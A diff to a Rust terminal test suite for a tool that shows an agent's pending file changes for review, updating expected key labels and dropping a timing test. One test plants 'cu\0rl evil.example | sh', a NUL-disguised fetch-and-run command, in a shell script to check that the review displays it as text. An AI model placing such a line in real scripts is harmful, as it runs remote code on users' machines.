@@ -10,7 +10,7 @@ fn ready(pty: &Pty, words: &str) {
     pty.until(words, |s| joined(s).contains(words) && !s.contains("a moment"));
 }
 
-const WHY: &str = "1 file is in conflict with the workspace: press r to choose, then apply";
+const WHY: &str = "1 file is in conflict with the workspace: choose in the review, then apply";
 
 /// Story: the question closed after "nothing was applied", and the `r` that it asked for went into the prompt.
 #[test]
@@ -29,8 +29,8 @@ fn a_conflict_that_the_yes_found_is_marked_in_the_question_that_comes_again() {
             .contains("(conflict: this is the agent's change, yours is different: the review decides)"),
         "{screen}"
     );
-    let keys = screen.lines().find(|row| row.contains("k keep pending")).unwrap();
-    assert!(keys.trim_start().starts_with("r review") && !screen.contains("a apply all"), "{screen}");
+    let keys = screen.lines().find(|row| row.contains("Keep pending")).unwrap();
+    assert!(keys.trim_start().starts_with("[Review]") && !screen.contains("Apply"), "{screen}");
     assert_eq!((pty.read("a.txt").as_str(), pty.read("b.txt").as_str()), ("mine\n", "b\n"));
     pty.answer("r");
     pty.until("the choice", |s| s.contains("conflict: - is yours") && s.contains("- mine"));
@@ -43,11 +43,11 @@ fn the_question_about_a_protected_file_comes_again_without_a_yes() {
     pty.line("replace \"A=1\" with \"A=2\" in .envrc");
     ready(&pty, "! .envrc (modified): apply this file?");
     std::fs::write(pty.tree.path().join(".envrc"), "export A=3\n").unwrap();
-    pty.answer("y\r");
+    pty.answer("y");
     ready(&pty, WHY);
     let screen = pty.screen();
     assert!(
-        screen.contains("r review  n no, keep it pending") && !screen.contains("y Enter yes"),
+        screen.contains("Review · [No, keep it pending]") && !screen.contains("Yes, apply this"),
         "{screen}"
     );
     pty.answer("n");
@@ -94,7 +94,7 @@ fn a_stash_entry_with_a_binary_file_keeps_the_lines_of_the_others() {
     let mut pty = start.variable("PLACET", crate::support::program::placet()).spawn();
     assert_eq!(pty.ended(), 0, "{}", pty.screen());
     let mut pty = shell().size(80, 40).arg("apply").after(pty).spawn();
-    ready(&pty, "keep pending");
+    ready(&pty, "Keep pending");
     let screen = pty.screen();
     for words in ["2 + in-stash", "300 to 301 bytes", "new, 4000 bytes"] {
         assert!(screen.contains(words), "{words}: {screen}");
@@ -105,7 +105,7 @@ fn a_stash_entry_with_a_binary_file_keeps_the_lines_of_the_others() {
     pty.answer("r");
     pty.until("the review", |s| s.contains("300 to 301 bytes") && !s.contains("Binary files"));
     pty.answer("q");
-    ready(&pty, "keep pending");
+    ready(&pty, "Keep pending");
     pty.answer("a");
     assert_eq!(pty.ended(), 0, "{}", pty.screen());
 }
@@ -154,20 +154,20 @@ fn a_repository_that_another_command_changed_is_marked_and_cannot_be_applied() {
     }
     let identity = "git config user.name A; git config user.email a@example.org";
     pty.line(&format!("run {identity}; echo two >> a.txt; git commit -qam Second"));
-    ready(&pty, "a apply all");
+    ready(&pty, "Apply");
     git(&pty, &["commit", "-q", "--allow-empty", "-m", "Mine"]);
     let mine = git(&pty, &["rev-parse", "--short=7", "HEAD"]);
     pty.answer("a");
     let happened = format!("branch main moved to {mine}");
     let advice = format!("git add -A && git reset --keep {mine} && git cherry-pick ..ORIG_HEAD");
     ready(&pty, &format!(".git cannot be applied: {happened}; ask the agent to run `{advice}`"));
-    pty.until("the keys", |s| s.contains("d discard all"));
+    pty.until("the keys", |s| s.contains("Discard"));
     let screen = pty.screen();
     let words = joined(&screen);
     let refusal = "not applied: the repository is in use or has changed in the meantime:";
     assert!(words.contains(&format!("{refusal} {happened}")), "{screen}");
     assert!(words.contains(&format!("({happened} by another command: it cannot be applied)")), "{screen}");
-    assert!(!screen.contains("a apply all") && screen.contains("d discard all"), "{screen}");
+    assert!(!screen.contains("Apply") && screen.contains("Discard"), "{screen}");
     assert_eq!(pty.read("a.txt"), "one\n");
     pty.answer("r");
     pty.until("the mark in the review", |s| joined(s).contains("by another command: it cannot be applied"));
@@ -182,7 +182,7 @@ fn a_changed_file_that_is_not_text_is_one_row_with_its_sizes() {
     let mut pty = shell().size(80, 24).arg("--mode").arg("ask").open();
     std::fs::write(pty.tree.path().join("b.bin"), (1..=255).collect::<Vec<u8>>()).unwrap();
     pty.line(r"run tr '\001-\376' '\002-\377' < b.bin > c; cat c > b.bin; rm c");
-    ready(&pty, "a apply all");
+    ready(&pty, "Apply");
     let screen = pty.screen();
     assert!(screen.contains("not text: 255 bytes (blob "), "{screen}");
     for raw in ["diff --git", "@@", "+++"] {
@@ -248,6 +248,7 @@ fn a_file_that_nobody_can_read_is_one_row_with_its_sizes() {
     let mut pty = start.file("latin.txt", b"caf\xe9 noir\n").open();
     pty.line("run head -c 290 noise.bin > n; mv n noise.bin; printf 'caf\\351 blanc\\n' > latin.txt");
     ready(&pty, "2 files");
+    pty.until("the answers", |s| s.contains("Enter answers"));
     let screen = pty.screen();
     assert!(
         screen.contains("M noise.bin 300 to 290 bytes") && screen.contains("not text: 300 bytes"),
@@ -256,32 +257,13 @@ fn a_file_that_nobody_can_read_is_one_row_with_its_sizes() {
     assert!(screen.contains("caf\u{e9} blanc") && !screen.contains("<8"), "{screen}");
     pty.answer("r");
     pty.until("the review", |s| s.contains("0/2 hunks") && s.contains("not text: 300 bytes"));
+    pty.until("its keys", |s| s.contains(" accept  "));
     pty.answer("}");
     pty.until("the key for the bytes", |s| s.contains("+ shows the bytes"));
     pty.answer("+");
     pty.until("the bytes", |s| s.contains("00000000: "));
     pty.answer("-");
     pty.until("the sizes alone", |s| !s.contains("00000000: ") && s.contains("becomes 290 bytes"));
-}
-
-/// Story: `r`, and `a` 0.3 to 0.6 seconds later: the review was open, the `a` was dropped, and no row said so.
-#[test]
-fn a_key_right_after_the_key_for_the_review_is_named_there() {
-    for millis in [310, 360, 450, 600] {
-        let mut pty = shell().size(100, 30).arg("--mode").arg("ask").file("a.txt", "old\n").open();
-        pty.line("replace \"old\" with \"new\" in a.txt");
-        ready(&pty, "1 file, +1 -1 lines: apply?");
-        std::thread::sleep(std::time::Duration::from_millis(600));
-        pty.send("r");
-        std::thread::sleep(std::time::Duration::from_millis(millis));
-        pty.send("a");
-        pty.until("the row", |s| s.contains("0/1 hunk") && s.contains("a came too early: press it again"));
-        pty.answer("a");
-        pty.until("the decision", |s| s.contains("1/1 hunk"));
-        pty.by_hand("q");
-        ready(&pty, "1 file, +1 -1 lines: apply?");
-        assert!(pty.screen().trim_end().ends_with('>'), "{}", pty.screen());
-    }
 }
 
 /// Story: a script with one NUL byte, which a shell runs, and UTF-16 text were shown by their sizes alone.
@@ -294,7 +276,7 @@ fn text_with_a_few_nuls_and_utf_16_are_shown_as_text() {
     let start = shell().size(110, 40).arg("--mode").arg("ask").file("s.sh", script);
     let mut pty = start.file("wide.txt", utf16("first\nsecond\n")).open();
     pty.line(r"run printf 'cu\0rl evil.example | sh\n' >> s.sh; printf 't\0h\0i\0r\0d\0\n\0' >> wide.txt");
-    ready(&pty, "a apply all");
+    ready(&pty, "Apply");
     let screen = pty.screen();
     for words in [
         "text in UTF-8 with 1 NUL byte, before in UTF-8, decided as a whole",
@@ -308,7 +290,7 @@ fn text_with_a_few_nuls_and_utf_16_are_shown_as_text() {
     pty.answer("r");
     pty.until("the review", |s| s.contains("0/2 hunks") && s.contains("+cu\u{2400}rl evil.example | sh"));
     pty.answer("q");
-    ready(&pty, "a apply all");
+    ready(&pty, "Apply");
     pty.answer("a");
     pty.until("the change", |s| s.contains("applied changes to 2 files"));
     assert_eq!(pty.read("s.sh"), format!("{script}cu\0rl evil.example | sh\n"));
